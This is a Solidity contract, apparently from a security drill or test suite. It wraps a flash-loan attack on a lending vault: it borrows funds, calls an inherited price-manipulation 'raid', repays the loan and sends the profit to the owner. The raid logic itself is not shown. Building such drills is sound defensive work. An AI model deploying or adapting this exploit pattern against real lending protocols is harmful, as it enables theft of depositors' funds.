// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "./ERC20.sol";
import {FlashLender, IFlashBorrower} from "./FlashLender.sol";
import {LendingVault} from "./LendingVault.sol";
import {PriceRaid} from "./PriceRaid.sol";

/// The attack on `LendingVault` with borrowed money, for drills: borrow cash for one transaction, raid the vault by the
/// price, repay, keep the difference.
contract FlashAttack is PriceRaid, IFlashBorrower {
    FlashLender private immutable lender;

    constructor(FlashLender lender_, LendingVault vault_) PriceRaid(vault_) {
        lender = lender_;
    }

    function run(uint256 amount) external onlyOwner {
        IERC20 cash = vault.asset();
        lender.flashLoan(address(this), address(cash), amount, "");
        _sendHome(cash);
    }

    function onFlashLoan(address, address token, uint256 amount, uint256 fee, bytes calldata)
        external
        returns (bytes32)
    {
        _raid(token, amount);
        IERC20(token).approve(address(lender), amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
